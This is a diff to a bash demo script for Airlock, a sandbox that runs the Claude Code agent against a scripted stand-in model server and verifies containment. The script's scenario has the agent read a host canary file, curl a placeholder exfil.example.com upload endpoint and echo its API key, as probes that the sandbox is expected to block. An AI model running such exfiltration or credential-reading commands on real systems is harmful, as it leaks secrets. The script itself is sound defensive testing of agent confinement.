@@ -1,18 +1,21 @@
 #!/usr/bin/env bash
-# The main job on the embedded defaults: set up what is missing, then run a governed
-# session on a sample repository and show what the sandbox could and could not do.
-# Safe to run again. State: $AIRLOCK_HOME (default ~/.airlock).
+# The main job on the embedded defaults: set up what is missing, build and approve the
+# Claude Code image, then run the real agent, governed, on a sample repository against a
+# scripted model server that speaks the Anthropic Messages API (no LLM is reachable
+# here), and print the session's record and a passing `airlock audit verify`.
+# Safe to run again. State: $AIRLOCK_HOME (default ~/.airlock-demo, apart from yours).
 set -euo pipefail
 cd "$(dirname "$0")/.."
 root=$(pwd)
 ./scripts/setup-host.sh
 
-export AIRLOCK_HOME=${AIRLOCK_HOME:-$HOME/.airlock}
+export AIRLOCK_HOME=${AIRLOCK_HOME:-$HOME/.airlock-demo}
 airlock() { node "$root/bin/airlock.js" "$@"; }
 demo=$AIRLOCK_HOME/demo
 repo=$demo/sample-repo
+provider=$demo/provider
 canary=$HOME/.airlock-demo-canary
-mkdir -p "$demo"
+mkdir -p "$demo" "$provider"
 
 # A sample repository, as a developer's checkout (owned by the sandbox user when we are root).
 if [ ! -d "$repo/.git" ]; then
@@ -23,38 +26,93 @@ if [ ! -d "$repo/.git" ]; then
   git -C "$repo" -c user.name=demo -c user.email=demo@example.invalid commit -qm "initial commit"
 fi
 [ "$(id -u)" = 0 ] && chown -R 1000:1000 "$repo"
-echo "host-only secret: do not leak" > "$canary"
 rm -f "$repo/NOTES.md"
+echo "host-only secret: do not leak" > "$canary"
 
-echo "== airlock doctor"
-airlock doctor
+echo "== airlock images build claude (skipped when up to date), then approve it"
+airlock images build claude
+airlock images approve claude
+
+# The stand-in for api.anthropic.com: a certificate from a demo CA that Airlock's proxy
+# trusts for upstream TLS (tls.upstreamCaFile), like a corporate CA.
+if [ ! -f "$provider/server.pem" ]; then
+  openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -keyout "$provider/ca.key" -out "$provider/ca.pem" \
+    -subj "/CN=Airlock demo provider CA" -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign,cRLSign" 2>/dev/null
+  openssl req -newkey rsa:2048 -nodes -keyout "$provider/server.key" -out "$provider/server.csr" -subj "/CN=api.anthropic.com" 2>/dev/null
+  printf 'subjectAltName=DNS:api.anthropic.com\nextendedKeyUsage=serverAuth\n' > "$provider/ext.cnf"
+  openssl x509 -req -in "$provider/server.csr" -CA "$provider/ca.pem" -CAkey "$provider/ca.key" -CAcreateserial \
+    -days 3650 -out "$provider/server.pem" -extfile "$provider/ext.cnf" 2>/dev/null
+fi
+cat > "$provider/scenario.yaml" <<SCENARIO
+steps:
+  - write: { path: NOTES.md, content: "Written by Claude Code inside the Airlock sandbox.\n" }
+  - shell: { command: "cat $canary; echo canary-exit=\$?" }
+  - shell: { command: "curl -s -o /dev/null -w 'exfil.example.com answered %{http_connect}' https://exfil.example.com/upload; echo" }
+  - shell: { command: "echo the key I hold: \$ANTHROPIC_API_KEY" }
+  - say: "Done: NOTES.md is written. The host file was not readable, and exfil.example.com was refused by policy."
+SCENARIO
+rm -f "$provider/requests.jsonl"
+node "$root/dist/model-server.js" --scenario "$provider/scenario.yaml" --tls-cert "$provider/server.pem" --tls-key "$provider/server.key" \
+  --record "$provider/requests.jsonl" > "$provider/listening.json" &
+model=$!
+trap 'kill $model 2>/dev/null; rm -f "$canary"' EXIT
+for _ in $(seq 50); do [ -s "$provider/listening.json" ] && break; sleep 0.1; done
+port=$(node -e 'process.stdout.write(String(JSON.parse(require("fs").readFileSync(process.argv[1], "utf8")).port))' "$provider/listening.json")
+
+# The embedded defaults, plus what points api.anthropic.com at the scripted model.
+cat > "$AIRLOCK_HOME/policy.yaml" <<POLICY
+# Written by scripts/demo.sh: the built-in policy, except that api.anthropic.com is the
+# scripted model server on this machine (port $port), trusted through the demo CA.
+version: 1
+egress:
+  resolve: { api.anthropic.com: 127.0.0.1 }
+credentials:
+  - name: anthropic
+    hosts: [api.anthropic.com]
+    ports: [$port]
+    inject: { header: x-api-key }
+    source: { env: ANTHROPIC_API_KEY }
+    placeholderPrefix: sk-ant-airlock-
+    upstream: https://api.anthropic.com:$port
+tls: { upstreamCaFile: $provider/ca.pem }
+POLICY
+# The real key lives in airlock's own environment; the agent only ever gets a placeholder.
+export ANTHROPIC_API_KEY="sk-ant-demo-$(od -An -tx1 -N16 /dev/urandom | tr -d ' \n')"
+
 echo
-echo "== a governed session: airlock run shell (driver: policy default, auto)"
+echo "== airlock run claude: the real Claude Code, governed (driver: policy default, auto)"
 set +e
-airlock run shell --repo "$repo" -- -c '
-  echo "inside: $(id)";
-  echo "inside: capabilities $(grep CapEff /proc/self/status | tr -s "\t" " ")";
-  echo "inside: network interfaces: $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " " | paste -sd,)";
-  cat '"$canary"' 2>/dev/null && echo "inside: READ THE HOST CANARY" || echo "inside: host canary is not visible";
-  node -e "require(\"net\").connect(22, \"127.0.0.1\").on(\"error\", e => console.log(\"inside: the host loopback is unreachable: \" + e.code))";
-  touch /usr/evil 2>/dev/null && echo "inside: WROTE /usr" || echo "inside: system directories are read-only";
-  echo "Written by the agent inside the Airlock sandbox." > /workspace/NOTES.md && echo "inside: wrote /workspace/NOTES.md";
-  exit 7'
+airlock run claude --repo "$repo" -- -p "Write NOTES.md, then check what you can reach." --allowedTools Bash,Write,Edit,Read
 code=$?
 set -e
+kill $model 2>/dev/null || true
+wait $model 2>/dev/null || true
+
 echo
-echo "== session summary"
-echo "exit code passed through: $code (the command exited 7)"
-echo "repository file written: $(test -f "$repo/NOTES.md" && echo "yes: $(cat "$repo/NOTES.md")" || echo no)"
+echo "== what happened"
+echo "claude's exit code: $code"
+echo "NOTES.md in the repository: $(test -f "$repo/NOTES.md" && echo "yes: $(cat "$repo/NOTES.md")" || echo no)"
+node - "$provider/requests.jsonl" "$ANTHROPIC_API_KEY" <<'CHECK'
+const [file, key] = process.argv.slice(2);
+const reqs = require('fs').readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+const bodies = JSON.stringify(reqs.map((r) => r.body));
+console.log(`model requests: ${reqs.length}; each carried the real key: ${reqs.every((r) => r.headers['x-api-key'] === key)}`);
+console.log(`the agent's view of the key: ${(bodies.match(/the key I hold: ([A-Za-z0-9_-]+)/) || [])[1]} (a placeholder; the real key never entered the sandbox: ${!bodies.includes(key)})`);
+console.log(`reading the host canary: ${(bodies.match(/canary-exit=\d+/) || ['?'])[0]} (not visible inside)`);
+console.log(`exfil.example.com: ${(bodies.match(/exfil.example.com answered \d+/) || ['?'])[0]} (denied by the proxy)`);
+CHECK
 echo "leftover containers: $(docker ps -aq --filter label=dev.airlock.session | wc -l)"
 echo "leftover run directories: $(ls "$AIRLOCK_HOME/run" 2>/dev/null | wc -l)"
-rm -f "$canary"
+
 echo
 echo "== the audit record of that session"
 session=$(airlock sessions list --limit 1 --json | node -e 'process.stdout.write(JSON.parse(require("fs").readFileSync(0, "utf8"))[0].sessionId)')
 airlock sessions show "$session"
 echo
+echo "== airlock images list"
+airlock images list
+echo
 echo "== airlock audit verify"
 airlock audit verify
-[ "$code" = 7 ] && test -f "$repo/NOTES.md"
+[ "$code" = 0 ] && test -f "$repo/NOTES.md"
 echo "demo: ok"
